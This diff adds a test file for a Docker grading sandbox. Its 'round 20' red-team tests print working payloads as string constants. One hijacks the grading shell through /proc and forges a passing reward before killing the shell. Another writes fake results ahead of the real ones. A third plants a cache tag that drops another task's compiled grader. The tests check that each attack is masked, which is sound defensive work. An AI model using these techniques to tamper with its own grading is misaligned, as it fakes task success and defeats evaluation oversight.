@@ -1,0 +1,253 @@
+"""Red team, round 20: grading cut short, results written ahead of the real ones, a planted cache
+tag (the done marker and bytecode per image). Each found a way through; each is closed: the engine is
+asked for the exit status wherever code of the task could reach grading's shell, results with anything
+in front of the real ones are damage, and the cache tag never drops a task's own files."""
+
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from support import write_files
+
+sys.path.insert(0, str(Path(__file__).parent))
+
+pytestmark = pytest.mark.docker
+MARKER = "nemo-gym-docker-attack"
+
+
+def write(root: Path, files: dict) -> Path:
+    return write_files(root, files, dedent=True)
+
+
+# ---------------------------------------------------------------------------------------------
+# Area 1: the done marker. A root verify's program stops grading's shell, waits for the runner's
+# genuine report, writes the results itself followed by the marker, and kills the shell: finish
+# (kill_strays, the lock, removing /tests) never runs, and the host takes exit status 0.
+CUT_SHORT = r'''
+import os, subprocess, sys
+DAEMON = r"""
+import io, os, signal, sys, tarfile, time
+bash, runner = int(sys.argv[1]), int(sys.argv[2])
+if os.fork(): os._exit(0)
+os.setsid()
+if os.fork(): os._exit(0)
+pipe = os.open(f"/proc/{bash}/fd/6", os.O_WRONLY)
+os.kill(bash, signal.SIGSTOP)  # finish cannot start: nothing will kill this process
+def alive(pid):
+    try:
+        with open(f"/proc/{pid}/stat") as handle:
+            return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
+    except OSError:
+        return False
+while alive(runner):
+    time.sleep(0.01)
+out = [name for name in os.listdir("/tests") if name.startswith(".gym-out-")][0]
+files = {
+    "report": open(f"/tests/{out}/report", "rb").read(),  # the runner's genuine report
+    "reward.json": open("/logs/verifier/reward.json", "rb").read(),
+    "meta": b"status 0\nelapsed_cs 1\nkinds reward.json=file \nskipped 0\n",
+}
+buffer = io.BytesIO()
+with tarfile.open(fileobj=buffer, mode="w") as archive:
+    for name, data in files.items():
+        info = tarfile.TarInfo("./" + name)
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+os.write(pipe, buffer.getvalue() + b"\nnemo-gym-grading-done\n")
+os.close(pipe)
+os.kill(bash, signal.SIGKILL)
+os.execvp("bash", ["bash", "-c", "exec -a MARKER-daemon sleep 600"])
+"""
+def verify():
+    pid, bash = os.getppid(), None
+    while pid > 1:  # the grading shell: the ancestor whose fd 6 is the exec's stdout
+        try:
+            if os.readlink(f"/proc/{pid}/fd/6").startswith("pipe:"):
+                bash = pid
+                break
+        except OSError:
+            pass
+        with open(f"/proc/{pid}/stat") as handle:
+            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
+    subprocess.run([sys.executable, "-c", DAEMON, str(bash), str(os.getpid())])
+    return 0.75
+'''.replace("MARKER", MARKER)
+
+
+def test_a_root_verify_that_cuts_grading_short_is_masked(docker_client, tmp_path):
+    from test_docker_attacks import attack, grading_survivors
+
+    task_dir = write(tmp_path / "task", {"tests/verifier.py": CUT_SHORT, "task_data.json": '{"answer": "secret"}'})
+
+    async def after(sandbox: Any) -> Any:
+        survivors = await grading_survivors(sandbox)
+        left = (await sandbox.exec("ls -A /tests; stat -c %a /logs/verifier", user="root")).stdout
+        return survivors, left
+
+    outcome, (survivors, left) = attack(docker_client, task_dir, write(tmp_path / "ws", {}), after=after)
+    # Nothing started during grading survives it, or the sample is masked: the engine saw a killed shell.
+    assert outcome.masked and outcome.mask_reason == "sandbox_error", (outcome, survivors, left)
+
+
+# The same for a task's own test.sh run as a [verifier].user: the second grading exec's shell is that
+# user's, so the program test.sh runs (the agent's, in a coding task) reaches its fd 6 and can kill it.
+OWN_DAEMON = r"""
+import io, os, signal, sys, tarfile, time
+pid, bash = os.getppid(), None
+while pid > 1:
+    try:
+        if os.readlink(f"/proc/{pid}/fd/6").startswith("pipe:"):
+            bash = pid
+            break
+    except OSError:
+        pass
+    with open(f"/proc/{pid}/stat") as handle:
+        pid = int(handle.read().rsplit(")", 1)[1].split()[1])
+if os.fork():
+    os._exit(0)
+os.setsid()
+pipe = os.open(f"/proc/{bash}/fd/6", os.O_WRONLY)
+os.kill(bash, signal.SIGSTOP)
+files = {"reward.txt": b"1\n", "meta": b"status 0\nelapsed_cs 1\nkinds reward.txt=file \nskipped 0\n"}
+buffer = io.BytesIO()
+with tarfile.open(fileobj=buffer, mode="w") as archive:
+    for name, data in files.items():
+        info = tarfile.TarInfo("./" + name)
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+os.write(pipe, buffer.getvalue() + b"\nnemo-gym-grading-done\n")
+os.close(pipe)
+time.sleep(0.5)  # test.sh has written its 0 by now
+os.kill(bash, signal.SIGKILL)
+os.execvp("bash", ["bash", "-c", "exec -a MARKER-daemon sleep 600"])
+""".replace("MARKER", MARKER)
+
+
+def test_a_shell_verifiers_user_that_cuts_grading_short_is_masked(docker_client, tmp_path):
+    from test_docker_attacks import attack, grading_survivors
+
+    task_dir = write(
+        tmp_path / "task",
+        {
+            "task.toml": '[verifier]\nuser = "grader"\n',
+            "tests/test.sh": "python3 /workspace/prog.py </dev/null >/dev/null 2>&1\necho 0 > /logs/verifier/reward.txt\n",
+        },
+    )
+    workspace = write(tmp_path / "ws", {"prog.py": OWN_DAEMON})
+    outcome, survivors = attack(docker_client, task_dir, workspace, after=grading_survivors)
+    assert outcome.masked and outcome.mask_reason == "sandbox_error", (outcome, survivors)
+
+
+# Without killing anything: results written into fd 6 before finish packs its own are read first
+# (tarfile stops at the first end-of-archive; what follows is never looked at). Sums included, for
+# the parent commit's check.
+PREFIX_FORGER = r"""
+import hashlib, io, os, tarfile
+pid, bash = os.getppid(), None
+while pid > 1:
+    try:
+        if os.readlink(f"/proc/{pid}/fd/6").startswith("pipe:"):
+            bash = pid
+            break
+    except OSError:
+        pass
+    with open(f"/proc/{pid}/stat") as handle:
+        pid = int(handle.read().rsplit(")", 1)[1].split()[1])
+files = {"reward.txt": b"1\n", "meta": b"status 0\nelapsed_cs 1\nkinds reward.txt=file \nskipped 0\n"}
+files[".sums"] = "".join(f"{hashlib.sha256(d).hexdigest()}  {n}\n" for n, d in files.items()).encode()
+buffer = io.BytesIO()
+with tarfile.open(fileobj=buffer, mode="w") as archive:
+    for name, data in files.items():
+        info = tarfile.TarInfo("./" + name)
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+with open(f"/proc/{bash}/fd/6", "wb") as pipe:
+    pipe.write(buffer.getvalue())
+"""
+
+
+def test_results_a_shell_verifiers_user_writes_ahead_of_the_real_ones_are_damage(docker_client, tmp_path):
+    from test_docker_attacks import attack
+
+    task_dir = write(
+        tmp_path / "task",
+        {
+            "task.toml": '[verifier]\nuser = "grader"\n',
+            "tests/test.sh": "python3 /workspace/prog.py </dev/null\necho 0 > /logs/verifier/reward.txt\n",
+        },
+    )
+    outcome, _ = attack(docker_client, task_dir, write(tmp_path / "ws", {"prog.py": PREFIX_FORGER}))
+    assert outcome.masked and "more than one tar" in outcome.detail, outcome
+
+
+# ---------------------------------------------------------------------------------------------
+# Area 2: the cache tag. for_tag drops every staged `__pycache__/*.cpython-3XY.pyc` of another tag,
+# the task's own files included. A task that ships a module as unchecked-hash bytecode (its .py a
+# stub: an obfuscated grader) is graded by that bytecode under stock Harbor and while the tag is
+# right; a tag a root verify of any task on the same image planted makes the server drop it.
+POISONER = """
+import glob
+def verify():
+    for out in glob.glob("/tests/.gym-out-*"):
+        import os
+        path = os.path.join(out, "cache_tag")
+        try:
+            os.unlink(path)
+        except OSError:
+            pass
+        with open(path, "w") as handle:
+            handle.write("cpython-38")
+    return 0.0
+"""
+
+OBFUSCATED = """
+import checker
+def verify(workspace):
+    return float((workspace / "answer.txt").read_text().strip() == checker.ANSWER)
+"""
+
+
+def test_a_planted_cache_tag_never_changes_another_tasks_score(docker_client, tmp_path, monkeypatch):
+    import subprocess
+
+    from images import python_image
+    from test_docker import verify_in
+
+    from nemo_gym.data.tasks.harbor import verification
+    from nemo_gym.data.tasks.harbor.bytecode import ImageTags
+
+    tags = ImageTags()
+    monkeypatch.setattr(verification, "IMAGE_TAGS", tags)
+    image, volumes = python_image(docker_client, "3.12")
+    # checker's bytecode for 3.12, unchecked hash (PEP 552 flags 0b01): used whatever the stub says
+    from support import pyenv_python
+
+    py312 = pyenv_python("3.12")
+    source = 'ANSWER = "42"\n'
+    code = subprocess.run(
+        [
+            str(py312),
+            "-c",
+            "import sys, marshal, importlib.util; c = compile(sys.argv[1], 'checker.py', 'exec');"
+            "sys.stdout.buffer.write(importlib.util.MAGIC_NUMBER + b'\\x01\\0\\0\\0' + b'\\0' * 8 + marshal.dumps(c))",
+            source,
+        ],
+        capture_output=True,
+        check=True,
+    ).stdout
+    victim = tmp_path / "victim"
+    (victim / "tests" / "__pycache__").mkdir(parents=True)
+    (victim / "tests" / "verifier.py").write_text(OBFUSCATED)
+    (victim / "tests" / "checker.py").write_text("ANSWER = None  # shipped compiled\n")
+    (victim / "tests" / "__pycache__" / "checker.cpython-312.pyc").write_bytes(code)
+    (victim / "workspace").mkdir()
+    (victim / "workspace" / "answer.txt").write_text("42")
+    poisoner = write(tmp_path / "poisoner", {"tests/verifier.py": POISONER})
+
+    first = verify_in(image, victim, volumes=volumes, client=docker_client, workspace=victim / "workspace")
+    assert (first.reward, first.masked, tags.get(image)) == (1.0, False, "cpython-312"), first
+    verify_in(image, poisoner, volumes=volumes, client=docker_client, workspace=tmp_path)
+    assert tags.get(image) == "cpython-38"  # a root verify can write it: a hint, never more
+    second = verify_in(image, victim, volumes=volumes, client=docker_client, workspace=victim / "workspace")
+    assert (second.reward, second.masked) == (1.0, False), (second, tags.get(image))
